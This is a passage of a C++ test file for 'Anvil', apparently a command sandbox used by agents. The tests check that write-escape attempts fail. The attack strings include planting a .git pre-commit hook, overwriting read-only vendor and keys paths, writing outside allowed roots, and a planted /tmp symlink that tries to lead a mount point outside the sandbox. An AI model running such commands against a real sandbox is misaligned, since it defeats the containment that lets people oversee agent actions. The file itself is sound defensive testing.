  EXPECT_EQ(ReadFile(ws2 / ".git/HEAD"), "x\n");
}

// Two runs in one workspace share the placeholder. Removing a directory that is a mount point
// in another mount namespace succeeds and silently detaches that mount, so the first run to
// finish must not remove the placeholder the second still relies on.
TEST_P(T1SandboxWrite, APlaceholderOutlivesTheFirstOfTwoConcurrentRuns) {
  TempDir ws2("anvil-ws-nogit2");
  caller_.Give(ws2.path());
  RunResult first;
  std::thread short_run([&] { first = SandboxSh(ws2.path(), "sleep 1", {}, Opts()); });
  usleep(300000);  // the short run is up (its placeholder exists) before the long one starts
  auto second = SandboxSh(ws2.path(),
                          "sleep 2; mkdir -p .git/hooks && printf '#!/bin/sh\\nevil\\n' > "
                          ".git/hooks/pre-commit; echo ran > ran.txt",
                          {}, Opts());
  short_run.join();
  EXPECT_EQ(first.status, 0) << first.err;
  EXPECT_EQ(ReadFile(ws2 / "ran.txt"), "ran\n") << second.err;
  EXPECT_FALSE(Exists(ws2 / ".git/hooks/pre-commit"))
      << "the second run created .git after the first removed the shared placeholder";
  EXPECT_FALSE(Exists(ws2 / ".git")) << "the last run to finish leaves the placeholder behind";
}

// Many runs at once in a workspace without .git (an agent running commands in parallel): each
// one starts, each sees a read-only .git, and the last one out removes it. (Found by the peer
// bench: before every run locked the placeholder and recomputed its view after doing so, some
// of 100 such runs failed closed with 125 and one could have bound a fresh placeholder
// writable.)
TEST_P(T1SandboxWrite, ManyConcurrentRunsAllSeeAReadOnlyGitAndLeaveNone) {
  TempDir ws2("anvil-ws-nogit3");
  caller_.Give(ws2.path());
  constexpr int kRuns = 24;
  std::vector<RunResult> results(kRuns);
  std::vector<std::thread> runs;
  for (int i = 0; i < kRuns; ++i) {
    runs.emplace_back([&, i] {
      results[i] = SandboxSh(ws2.path(),
                             "test -d .git && ! mkdir .git/hooks 2>/dev/null && "
                             "! touch .git/config 2>/dev/null && echo ok",
                             {}, Opts());
    });
  }
  for (auto& t : runs) t.join();
  for (int i = 0; i < kRuns; ++i) {
    EXPECT_EQ(results[i].status, 0) << "run " << i << ": " << results[i].err;
    EXPECT_EQ(results[i].out, "ok\n") << "run " << i;
  }
  EXPECT_FALSE(Exists(ws2 / ".git")) << "the placeholder outlived every run";
}

TEST_P(T1SandboxWrite, ReadOnlySubpathIsEnforced) {
  ASSERT_EQ(mkdir((ws_ + "/vendor").c_str(), 0755), 0);
  ASSERT_EQ(mkdir((ws_ + "/keys").c_str(), 0755), 0);
  WriteFile(ws_ + "/vendor/lib.c", "int lib;\n");
  WriteFile(ws_ + "/keys/k", "key\n");
  caller_.Give(ws_);

  auto attack =
      Sh("echo evil >> vendor/lib.c; echo evil > vendor/new.c; rm vendor/lib.c; "
         "mv vendor vendor2; echo evil > keys/k",
         {"--read-only-subpath", "vendor", "--read-only-subpath", ws_ + "/keys"});
  EXPECT_NE(attack.status, 0);
  EXPECT_EQ(ReadFile(ws_ + "/vendor/lib.c"), "int lib;\n");
  EXPECT_FALSE(Exists(ws_ + "/vendor/new.c"));
  EXPECT_FALSE(Exists(ws_ + "/vendor2"));
  EXPECT_EQ(ReadFile(ws_ + "/keys/k"), "key\n");

  auto benign = Sh("cat vendor/lib.c keys/k && echo ok > main.c",
                   {"--read-only-subpath", "vendor", "--read-only-subpath", ws_ + "/keys"});
  EXPECT_EQ(benign.status, 0) << benign.err;
  EXPECT_EQ(benign.out, "int lib;\nkey\n");
  EXPECT_EQ(ReadFile(ws_ + "/main.c"), "ok\n");
}

TEST_P(T1SandboxWrite, ReadOnlySubpathThatDoesNotExistYetRefusesToStart) {
  // docs/policy.md: a path that does not exist cannot be protected, so Anvil refuses to start
  // rather than let CMD create it and own the path it was told to keep read-only.
  auto attack = Sh("echo ran > ran.txt; mkdir -p secrets && echo evil > secrets/planted",
                   {"--read-only-subpath", "secrets"});
  EXPECT_EQ(attack.status, 125) << attack.err;
  EXPECT_FALSE(Exists(ws_ + "/ran.txt")) << "refused to start, yet the command ran";
  EXPECT_FALSE(Exists(ws_ + "/secrets"));
  // The benign side (an existing subpath, the rest writable) is ReadOnlySubpathIsEnforced.
}

TEST_P(T1SandboxWrite, ReadOnlyPolicyDeniesEveryWriteInWorkspace) {
  ASSERT_EQ(mkdir((ws_ + "/dir").c_str(), 0755), 0);
  caller_.Give(ws_);
  auto benign =
      Sh("cat hello.txt && ls dir && grep -c benign hello.txt", {"--policy", "read-only"});
  EXPECT_EQ(benign.status, 0) << benign.err;
  EXPECT_EQ(benign.out, "benign\n1\n");

  const std::vector<std::string> attacks = {
      "echo x > new.txt",    "echo x >> hello.txt", ": > hello.txt",          "rm hello.txt",
      "mkdir newdir",        "rmdir dir",           "mv hello.txt moved.txt", "touch hello.txt",
      "chmod 600 hello.txt", "ln -s hello.txt sym", "ln hello.txt hard",      "mkfifo fifo",
      "echo x > dir/new.txt"};
  struct stat before {};
  ASSERT_EQ(stat((ws_ + "/hello.txt").c_str(), &before), 0);
  // One sandbox, every write tried in its own subshell; each one that succeeds is reported.
  std::string script;
  for (const auto& attack : attacks) {
    script += "(" + attack + ") 2>/dev/null && echo " + ShellQuote("ALLOWED: " + attack) + "; ";
  }
  auto result = Sh(script + "true", {"--policy", "read-only"});
  EXPECT_EQ(result.status, 0) << result.err;
  EXPECT_EQ(result.out, "") << "the read-only policy allowed writes:\n" << result.out;
  struct stat after {};
  ASSERT_EQ(stat((ws_ + "/hello.txt").c_str(), &after), 0);
  EXPECT_EQ(ReadFile(ws_ + "/hello.txt"), "benign\n");
  EXPECT_EQ(after.st_mode, before.st_mode);
  EXPECT_EQ(after.st_mtim.tv_sec, before.st_mtim.tv_sec);
  EXPECT_EQ(after.st_mtim.tv_nsec, before.st_mtim.tv_nsec);
  for (const char* name :
       {"new.txt", "newdir", "moved.txt", "sym", "hard", "fifo", "dir/new.txt"}) {
    EXPECT_FALSE(Exists(ws_ + "/" + name)) << name;
  }
  EXPECT_TRUE(Exists(ws_ + "/dir"));
}

// The workspace's /tmp is kept between its runs (beside its sandbox home), so it holds what
// earlier commands left: a symlink where a later run needs a mount point (a directory in the
// way to a root that lies in /tmp) must never be followed out of it. Run 1 plants
// `/tmp/<other> -> <outside>` at the top of the kept /tmp (the way down to the workspace itself,
// `/tmp/<dir>`, is a read-only tmpfs of the view's: nothing can be planted there); run 2 binds
// `<other>/parent/extra` from the host: the link is replaced by a directory of the kept /tmp,
// nothing is made in <outside>, and the write lands where the host's path says. Benign
// neighbour: what run 1 wrote to /tmp is there in run 2, never in the host's /tmp.
TEST_P(T1SandboxWrite, AKeptTmpNeverLeadsAMountPointOutOfIt) {
  TempDir in_tmp("anvil-kept-tmp", "/tmp");
  TempDir other_tmp("anvil-kept-other", "/tmp");
  const std::string ws = in_tmp / "ws";
  const std::string extra = other_tmp / "parent/extra";
  TempDir home_dir("anvil-kept-home", "/var/tmp");
  ASSERT_EQ(Shell("mkdir -p " + ShellQuote(ws) + " " + ShellQuote(extra)), 0);
  caller_.Give(in_tmp.path());
  caller_.Give(other_tmp.path());
  caller_.Give(home_dir.path());
  RunOptions o;
  o.env = {"PATH=/usr/bin:/bin", "HOME=" + home_dir.path()};
  auto plant = SandboxSh(ws,
                         "echo kept > /tmp/note && ln -s " + ShellQuote(outside_.path()) + " " +
                             ShellQuote(other_tmp.path()) + " && echo planted && ln -s " +
                             ShellQuote(outside_.path()) + " " + ShellQuote(in_tmp / "parent") +
                             " 2>/dev/null || echo refused",
                         {}, Opts(o));
  ASSERT_EQ(plant.status, 0) << plant.err;
  ASSERT_EQ(plant.out, "planted\nrefused\n");
  EXPECT_FALSE(Exists("/tmp/note")) << "the host's /tmp";
  auto run = SandboxSh(ws, "cat /tmp/note && echo landed > " + ShellQuote(extra + "/f"),
                       {"--writable-root", extra}, Opts(o));
  EXPECT_EQ(run.status, 0) << run.err;
  EXPECT_EQ(run.out, "kept\n");
  EXPECT_EQ(ReadFile(extra + "/f"), "landed\n");
  EXPECT_FALSE(Exists(outside_ / "parent")) << "a mount point was made through the planted link";
  auto fresh = SandboxSh(ws, "cat /tmp/note", {"--tmp", "private"}, Opts(o));
  EXPECT_NE(fresh.status, 0) << fresh.out;
}

TEST_P(T1SandboxWrite, WritableRootAllowsWritesThereAndNowhereElse) {
  TempDir cache("anvil-cache");
  TempDir other("anvil-other");
  chmod(other.path().c_str(), 0777);
  ASSERT_EQ(mkdir((cache / ".git").c_str(), 0755), 0);
  WriteFile(cache / ".git/config", kGitConfig);
  caller_.Give(cache.path());

  auto benign = Sh("echo cached > " + ShellQuote(cache / "blob") + " && mkdir " +
                       ShellQuote(cache / "sub") + " && echo ws > ws.txt",
                   {"--writable-root", cache.path()});
  EXPECT_EQ(benign.status, 0) << benign.err;
  EXPECT_EQ(ReadFile(cache / "blob"), "cached\n");
  EXPECT_TRUE(Exists(cache / "sub"));
  EXPECT_EQ(ReadFile(ws_ + "/ws.txt"), "ws\n");

  auto attack = Sh("echo x > " + ShellQuote(other / "pwned") + "; echo x >> " +
                       ShellQuote(cache / ".git/config"),
                   {"--writable-root", cache.path()});
  EXPECT_NE(attack.status, 0);
  EXPECT_FALSE(Exists(other / "pwned"));
  EXPECT_EQ(ReadFile(cache / ".git/config"), kGitConfig) << ".git is protected in every root";

  // Without the flag the host's directory is not there: the path lies in the command's own
  // /tmp (the workspace's kept one, where the earlier run's mount point is), never the host's.
  auto without_flag =
      Sh("echo x > " + ShellQuote(cache / "blob2") + "; ls " + ShellQuote(cache.path()));
  EXPECT_EQ(without_flag.out.find("blob\n"), std::string::npos) << without_flag.out;
  EXPECT_FALSE(Exists(cache / "blob2"));
  auto private_tmp = Sh("echo x > " + ShellQuote(cache / "blob2"), {"--tmp", "private"});
  EXPECT_NE(private_tmp.status, 0);
  EXPECT_FALSE(Exists(cache / "blob2"));
}

INSTANTIATE_TEST_SUITE_P(Callers, T1SandboxWrite, ::testing::ValuesIn(kAllCallers),
                         CallerParamName);

}  // namespace
}  // namespace t1_sandbox_write_escape_test
}  // namespace anvil::testing
